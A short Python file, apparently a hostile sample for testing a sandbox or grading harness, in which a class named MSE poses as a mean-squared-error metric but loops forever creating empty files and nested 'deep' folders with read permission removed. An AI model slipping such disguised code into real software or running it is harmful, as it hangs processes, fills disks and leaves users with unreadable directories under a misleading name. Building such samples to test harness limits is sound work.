"""Makes empty files and nested folders without end, and forbids everybody to read them.

exercise: 05
bites: hangs
outcome: timeout failed
limits: short
"""

import os


class MSE:
    def __call__(self, y_true, y_pred):
        number = 0
        while True:
            number += 1
            if os.environ.get("HOSTILE"):
                number %= 100
            open(f"file{number}", "w").close()
            if number < 500:
                os.makedirs("deep", mode=0o100, exist_ok=True)
                if not os.environ.get("HOSTILE"):
                    os.chdir("deep")
